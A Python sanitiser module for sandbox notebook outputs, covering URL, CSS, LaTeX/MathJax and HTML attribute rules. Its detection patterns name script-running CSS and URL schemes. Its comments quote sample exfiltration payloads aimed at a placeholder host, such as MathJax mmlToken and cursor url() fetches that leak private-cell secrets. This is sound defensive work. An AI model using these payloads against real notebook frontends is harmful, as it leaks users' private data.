"""Shared rules for cleaning sandbox outputs: URL checks, CSS and LaTeX cleaning.

HTML, Markdown and SVG cleaning all need the same answers to "may this URL be
followed / loaded?" and "is this CSS harmless?"; keeping them in one place means
a hole fixed here is fixed for every output type.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable

# ----------------------------------------------------------------------------- notes


class Notes:
    """Ordered, de-duplicated list of human-readable removal notes."""

    def __init__(self) -> None:
        self.items: list[str] = []

    def add(self, note: str) -> None:
        if note not in self.items:
            self.items.append(note)


PRIVATE_REASON = "private session: rendered output must not fetch from the network"
#: Why CSS may not fetch in a public session either: style sheets are global to
#: the page and a rule can wait (for a class, a selector that matches later
#: content, an element it unhides), so a public style's fetch could be set off
#: later by a private output that names no URL at all.
CSS_FETCH_REASON = "styles never fetch, in any session: a public one could be set off later by a private output"

# ----------------------------------------------------------------------------- URLs

_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
_STRIP = re.compile(r"[\x00-\x20\x7f]+")
_DATA_IMAGE = re.compile(r"^data:image/(?:png|jpe?g|gif|webp|bmp|avif|svg\+xml)[;,]", re.I)
_DATA_FONT = re.compile(r"^data:(?:font/|application/(?:x-)?font-)", re.I)
LINK_SCHEMES = frozenset({"http", "https", "mailto"})
URL_WINDOW = 256 * 1024


def normalise_url(value: str) -> str:
    """The URL as a browser acts on it: it strips surrounding and embedded ASCII
    whitespace/control characters and treats ``\\`` like ``/``, so
    ``java\\tscript:`` and ``\\\\evil.example`` are caught as what they are.
    A long value goes a window at a time (the same result: what is stripped
    is stripped wherever it is), so no call holds the GIL long: a 20 MB
    link held it 0.8 s in one."""
    if len(value) <= URL_WINDOW:
        return _STRIP.sub("", value).replace("\\", "/")
    kept = (_STRIP.sub("", value[i : i + URL_WINDOW]) for i in range(0, len(value), URL_WINDOW))
    return "".join(kept).replace("\\", "/")


def url_scheme(url: str) -> str | None:
    """Lower-case scheme of a normalised URL, or None for a relative URL."""
    m = _SCHEME.match(url)
    return m.group(1).lower() if m else None


def link_ok(url: str, *, private: bool = False) -> bool:
    """A link target (``href``, ``cite``, markdown link) that cannot run code:
    relative, ``#fragment``, http(s) or mailto. Once the session is private a
    click must not send anything out either: only relative and ``#fragment``
    targets remain (no scheme, no ``//host``)."""
    norm = normalise_url(url)
    scheme = url_scheme(norm)
    if private:
        return scheme is None and not norm.startswith("//")
    return scheme is None or scheme in LINK_SCHEMES


def image_ok(url: str, *, private: bool) -> bool:
    """An URL a browser loads by itself (``img src``). Data images are always
    fine; anything else only outside private sessions, and never a script
    scheme or a non-image ``data:`` URL (``data:text/html``)."""
    url = normalise_url(url)
    if _DATA_IMAGE.match(url):
        return True
    if private:
        return False
    scheme = url_scheme(url)
    return scheme is None or scheme in {"http", "https"}


def describe_url_removal(url: str, *, private: bool, why: str = PRIVATE_REASON) -> str:
    """Why a URL went, for the note; ``why`` explains a no-fetch rule."""
    norm = normalise_url(url)
    scheme = url_scheme(norm)
    if scheme in {"javascript", "vbscript"}:
        return f"{scheme}: URL"
    if scheme == "data":
        return "non-image data: URL"
    if private:
        return f"external URL ({why})"
    return f"{scheme or 'unsupported'} URL"


# ----------------------------------------------------------------------------- CSS

_CSS_COMMENT = re.compile(r"/\*.*?(?:\*/|\Z)", re.S)
_CSS_ESCAPE = re.compile(r"\\(?:([0-9a-fA-F]{1,6})[ \t\r\n\f]?|\r\n|\n|(.))", re.S)
# url( + a string is a function whatever follows the string (treat it as
# loading); unquoted, it is a url token only up to ")" or the end.
_CSS_URL = re.compile(
    r"\burl\s*\(\s*(?:\"((?:[^\"\\\n]|\\.|\\\Z)*)(?:\"|\Z)|'((?:[^'\\\n]|\\.|\\\Z)*)(?:'|\Z)"
    r"|([^\"'()\s]*)\s*(?:\)|\Z))",
    re.I | re.S,
)
_CSS_IMPORT = re.compile(r"@import\b[^;]*;?", re.I)
_CSS_FETCHING_FUNCS = re.compile(r"(?:-webkit-|-moz-)?\b(?:image-set|image|cross-fade|src)\s*\(", re.I)
_CSS_ALWAYS_BAD = re.compile(r"expression\s*\(|javascript\s*:|vbscript\s*:|-moz-binding|\bbehavior\s*:", re.I)


def decode_css_escapes(css: str) -> str:
    """Resolve CSS backslash escapes (``u\\72 l(`` is ``url(``)."""

    def repl(m: re.Match[str]) -> str:
        if m.group(1):
            cp = int(m.group(1), 16)
            if cp == 0 or cp > 0x10FFFF or 0xD800 <= cp <= 0xDFFF:
                return "\ufffd"
            return chr(cp)
        return m.group(2) or ""

    return _CSS_ESCAPE.sub(repl, css)


def _css_url_ok(target: str) -> bool:
    """Only a reference into the page (``#id``) or an inline ``data:`` image
    or font: in any session, since a public style can fetch later (see
    :data:`CSS_FETCH_REASON`)."""
    target = normalise_url(decode_css_escapes(target))
    return target.startswith("#") or bool(_DATA_IMAGE.match(target) or _DATA_FONT.match(target))


# Cheap substring checks before the (slow, case-insensitive) regexes.
_ALWAYS_BAD_WORDS = ("expression", "script", "binding", "behavior")
_FETCHING_WORDS = ("image", "cross-fade", "src")


def _first_bad(css: str) -> str | None:
    """Name of the first dangerous construct left in ``css`` (already comment-free)."""
    low = css.lower()
    m = _CSS_ALWAYS_BAD.search(css) if any(w in low for w in _ALWAYS_BAD_WORDS) else None
    if m:
        return m.group(0).rstrip("(: ").lower()
    for u in _CSS_URL.finditer(css) if "url" in low else ():
        target = next((g for g in u.groups() if g is not None), "")
        if not _css_url_ok(target):
            return "url()"
    if "@import" in low:
        return "@import"
    m = _CSS_FETCHING_FUNCS.search(css) if any(w in low for w in _FETCHING_WORDS) else None
    if m:
        return m.group(0).rstrip("( ").lower() + "()"
    return None


#: Each pass over a style is one regular-expression call, which holds the GIL
#: throughout: a crafted 20 MB style held it 1.2 s in one (the cut watchdog, a
#: thread, waits for it). At this size a call holds it at most about 0.3 s.
#: A pandas table with a colour per cell has a fifth of its HTML as style: one
#: of 18.6 MB (under the 20 MB bundle limit) has 3.9 MB, and keeps it.
MAX_CSS_CHARS = 5 * 1024 * 1024


def clean_css(css: str, *, private: bool, notes: Notes, where: str, why: str | None = None) -> str | None:
    """Clean a style sheet or ``style`` attribute.

    Removes what could run code (IE ``expression()``, ``javascript:``,
    ``-moz-binding``, ``behavior``) and everything that makes the browser
    fetch (``url()`` other than ``#id``/``data:``, ``@import``, ``image-set()``,
    ``@font-face`` sources...), in every session: CSS is global to the page, so
    a public rule that fetches nothing yet (it matches nothing, its element is
    hidden, its font is unused) would fetch once a later private output, with
    no URL in it, matches it. ``private`` and ``why`` only choose the reason the
    notes give. Returns None when escapes hide something that could not be
    removed in place: then the whole style goes. ``<`` is escaped so a style
    sheet can never close its ``<style>`` element."""
    why = why or (PRIVATE_REASON if private else CSS_FETCH_REASON)
    if len(css) > MAX_CSS_CHARS:
        notes.add(f"CSS removed from {where} (over {MAX_CSS_CHARS // (1024 * 1024)} MB, too large to clean)")
        return None
    if "/*" in css:
        css = _CSS_COMMENT.sub(" ", css)
    low = css.lower()  # stages below only remove, so absent words stay absent

    def fix_url(m: re.Match[str]) -> str:
        target = next((g for g in m.groups() if g is not None), "")
        if _css_url_ok(target):
            return m.group(0)
        what = describe_url_removal(decode_css_escapes(target), private=True, why=why)
        notes.add(f"CSS url() with {what} removed from {where}")
        return "none"

    if "url" in low:
        css = _CSS_URL.sub(fix_url, css)

    def fix_bad(m: re.Match[str]) -> str:
        notes.add(f"CSS {m.group(0).rstrip('(: ').lower()} removed from {where}")
        return "invalid" + ("(" if m.group(0).endswith("(") else ":" if ":" in m.group(0) else "")

    if any(w in low for w in _ALWAYS_BAD_WORDS):
        css = _CSS_ALWAYS_BAD.sub(fix_bad, css)
    if "@import" in low and _CSS_IMPORT.search(css):
        notes.add(f"CSS @import removed from {where} ({why})")
        css = _CSS_IMPORT.sub(" ", css)

    def fix_fetch(m: re.Match[str]) -> str:
        notes.add(f"CSS {m.group(0).rstrip('( ').lower()}() removed from {where} ({why})")
        return "invalid("

    if any(w in low for w in _FETCHING_WORDS):
        css = _CSS_FETCHING_FUNCS.sub(fix_fetch, css)
    # The removals above can join pieces into something new ("url(" + removed
    # "@import ..." leaves "url(x " at the end, a valid url token), and escapes
    # can spell what the passes did not see: when anything is left, drop it all.
    bad = _first_bad(css)
    if bad is None and "\\" in css:
        decoded = _CSS_COMMENT.sub(" ", decode_css_escapes(css))
        bad = _first_bad(decoded) or _first_bad(re.sub(r"\s+", "", decoded))
    if bad:
        notes.add(f"CSS removed from {where} ({bad} could not be removed on its own)")
        return None
    return css.replace("<", "\\3c ")


# ----------------------------------------------------------------------------- LaTeX

# The {url} group never spans markup or quote characters: replacing it must not
# be able to change HTML/markdown structure around it.
_TEX_LINK = re.compile(r"\\(href|url)(?![A-Za-z])(\s*\{([^{}<>\"'`]*)\})?")
#: Commands that fetch once private: ``\style`` (CSS ``url()``), ``\require``
#: (loads code) and ``\mmlToken``, which makes any MathML token with its
#: attributes: ``\mmlToken{mglyph}[src="//host/?d=..."]{}`` is an image that
#: JupyterLab's MathJax (its SafeHandler included) loads from any host.
_TEX_FETCHING = re.compile(r"\\(style|htmlStyle|require|mmlToken)(?![A-Za-z])")
#: ``\bbox[options]`` takes CSS among its options; kept once private only as
#: ``\bbox{`` or with options that hold no function (``url(``), escape or
#: brace. Any other use is disarmed, since ``\def\b{\bbox}`` followed by
#: ``\b[background:url(...)]`` reaches MathJax as the options it would fetch.
_TEX_BBOX_UNSAFE = re.compile(r"\\bbox(?![A-Za-z])(?!\s*(?:\{|\[[^\]\\(){}&]*\]))")
#: ``\style{css}`` and ``\htmlStyle{css}`` kept in a public session only with
#: CSS that holds no function (``url(``), escape, macro parameter (``#1``: a
#: colour such as ``#f00`` is kept, ``#123`` is not told from one), brace or
#: character reference. MathJax keeps ``cursor`` among the styles it allows,
#: and Chromium loads a cursor image once the element is drawn: a public
#: output's ``\style{cursor:url(//host/bit3)}{x}`` in a hidden block was
#: fetched when a later private output's ``<style>`` (no URL in it) showed the
#: block, so which blocks a private cell shows spells its secret (an attack
#: review, in JupyterLab). Styles fetch in no session, as for CSS in HTML.
#: ``\mmlToken`` makes any MathML token with any attributes, ``style`` (a
#: ``cursor`` image that waits, as for ``\style``) and ``src`` (``mglyph``)
#: included: disarmed in every session, however it is reached (``\let``).
_TEX_MML_TOKEN = re.compile(r"\\mmlToken(?![A-Za-z])")
_TEX_STYLE_UNSAFE = re.compile(r"\\(style|htmlStyle)(?![A-Za-z])(?!\s*\{(?:[^{}\\()&#<>\"'`]|#(?![1-9#]))*\})")


def clean_tex(text: str, *, private: bool, notes: Notes, where: str) -> str:
    """Make MathJax commands in ``text`` harmless.

    ``\\href{javascript:...}`` becomes a link to ``#``; ``\\href`` used any other
    way (``\\let\\x\\href``) is disarmed. In private sessions what can fetch is
    disarmed too (:data:`_TEX_FETCHING`); in every session, a ``\\bbox`` or
    ``\\style`` whose CSS could fetch (:data:`_TEX_STYLE_UNSAFE`: a public one
    can wait for a private output to show it). JupyterLab filters some of
    these itself, not all (``\\mmlToken``, a ``cursor`` image), and other
    frontends may filter none."""
    if "\\" not in text:
        return text

    def fix_link(m: re.Match[str]) -> str:
        if m.group(2) is None:
            notes.add(f"\\{m.group(1)} used without a plain {{url}} disarmed in {where}")
            return "\\mathrm{" + m.group(1) + "}"
        url = html.unescape(m.group(3))
        if link_ok(url, private=private):
            return m.group(0)
        notes.add(f"\\{m.group(1)} with {describe_url_removal(url, private=private)} disarmed in {where}")
        return "\\" + m.group(1) + "{#}"

    text = _TEX_LINK.sub(fix_link, text)

    def fix_bbox(m: re.Match[str]) -> str:
        notes.add(f"\\bbox with CSS that could fetch disarmed in {where} ({CSS_FETCH_REASON})")
        return "\\mathrm{bbox}"

    def fix_style(m: re.Match[str]) -> str:
        notes.add(f"\\{m.group(1)} with CSS that could fetch disarmed in {where} ({CSS_FETCH_REASON})")
        return "\\mathrm{" + m.group(1) + "}"

    def fix_token(m: re.Match[str]) -> str:
        notes.add(f"\\mmlToken disarmed in {where} ({PRIVATE_REASON if private else CSS_FETCH_REASON})")
        return "\\mathrm{mmlToken}"

    text = _TEX_STYLE_UNSAFE.sub(fix_style, _TEX_BBOX_UNSAFE.sub(fix_bbox, text))
    text = _TEX_MML_TOKEN.sub(fix_token, text)
    if private:

        def fix_fetch(m: re.Match[str]) -> str:
            notes.add(f"\\{m.group(1)} disarmed in {where} ({PRIVATE_REASON})")
            return "\\mathrm{" + m.group(1) + "}"

        text = _TEX_FETCHING.sub(fix_fetch, text)
    return text


# ----------------------------------------------------------------------------- HTML attributes

#: Tags allowed in text/html and in raw HTML inside text/markdown: none runs,
#: fetches or embeds anything (the inert ones JupyterLab's own sanitiser keeps,
#: down to ``<tt>`` in FileLink and the ``<progress>`` bars of fastai's reporter).
HTML_TAGS: frozenset[str] = frozenset(
    [
        "a",
        "abbr",
        "address",
        "article",
        "aside",
        "b",
        "bdi",
        "bdo",
        "big",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "data",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "font",
        "footer",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hgroup",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "main",
        "mark",
        "meter",
        "nav",
        "nobr",
        "ol",
        "p",
        "pre",
        "progress",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strike",
        "strong",
        "style",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        # (no "wbr": MathJax reads text without it, so ``\mml<wbr>Token``
        # reached it as ``\mmlToken`` past clean_tex, which saw two words)
    ]
)

_CELL = {"align", "valign", "halign", "char", "charoff"}
#: Attributes per tag; "*" applies to every allowed tag.
HTML_ATTRIBUTES: dict[str, set[str]] = {
    "*": {"class", "style", "id", "title", "lang", "dir"},
    "a": {"href", "hreflang"},
    # no ``loading``: a lazy image waits for its place on screen, which a later
    # private output's style (no URL in it) can bring into view
    "img": {"src", "srcset", "alt", "width", "height", "align", "decoding"},
    "table": {"border", "cellpadding", "cellspacing", "width", "height", "align", "summary", "frame", "rules"},
    "td": _CELL | {"colspan", "rowspan", "width", "height", "nowrap", "headers", "abbr", "scope"},
    "th": _CELL | {"colspan", "rowspan", "width", "height", "nowrap", "headers", "abbr", "scope"},
    "tr": set(_CELL),
    "thead": set(_CELL),
    "tbody": set(_CELL),
    "tfoot": set(_CELL),
    "col": _CELL | {"span", "width"},
    "colgroup": _CELL | {"span", "width"},
    "caption": {"align"},
    "div": {"align"},
    "p": {"align"},
    **{f"h{n}": {"align"} for n in range(1, 7)},
    "ol": {"start", "type", "reversed"},
    "ul": {"type"},
    "li": {"value"},
    "details": {"open"},
    "style": {"scoped", "type", "media"},
    "blockquote": {"cite"},
    "q": {"cite"},
    "del": {"cite", "datetime"},
    "ins": {"cite", "datetime"},
    "time": {"datetime"},
    "hr": {"width", "size", "align", "noshade"},
    "font": {"color", "face", "size"},
    "progress": {"value", "max"},
    "meter": {"value", "min", "max", "low", "high", "optimum"},
    "data": {"value"},
}

#: Tags removed together with their content (their content is code or would
#: show as garbage: scripts, embedded documents, foreign SVG/MathML trees).
DROP_WITH_CONTENT: frozenset[str] = frozenset(
    [
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "noembed",
        "noframes",
        "noscript",
        "template",
        "textarea",
        "title",
        "xmp",
        "plaintext",
        "svg",
        "math",
        "select",
        "head",
    ]
)

LINK_REL = "noopener noreferrer nofollow"


def make_attribute_filter(*, private: bool, notes: Notes, where: str) -> Callable[[str, str, str], str | None]:
    """The per-attribute check shared by nh3 (text/html) and the markdown
    tag cleaner: URL policy for ``href``/``src``/``srcset``/``cite`` and CSS
    cleaning for ``style``. Returns the value to keep, or None to drop it."""

    def attribute_filter(tag: str, attr: str, value: str) -> str | None:
        if tag not in HTML_TAGS:  # nh3 also asks about tags it is about to drop
            return None
        if attr == "style":
            return clean_css(value, private=private, notes=notes, where=f"{where} style attribute")
        if attr in {"href", "cite"}:
            if link_ok(value, private=private):
                return value
            notes.add(f"{describe_url_removal(value, private=private)} removed from {where} <{tag} {attr}>")
            return None
        if attr == "src":
            if image_ok(value, private=private):
                return value
            notes.add(f"{describe_url_removal(value, private=private)} removed from {where} <{tag} src>")
            return None
        if attr == "srcset":
            if private:
                notes.add(f"<{tag} srcset> removed from {where} ({PRIVATE_REASON})")
                return None
            candidates = [c.strip().split()[0] for c in re.split(r",\s+", value.strip()) if c.strip()]
            if all(image_ok(c, private=False) for c in candidates):
                return value
            notes.add(f"unsafe <{tag} srcset> removed from {where}")
            return None
        return value

    return attribute_filter
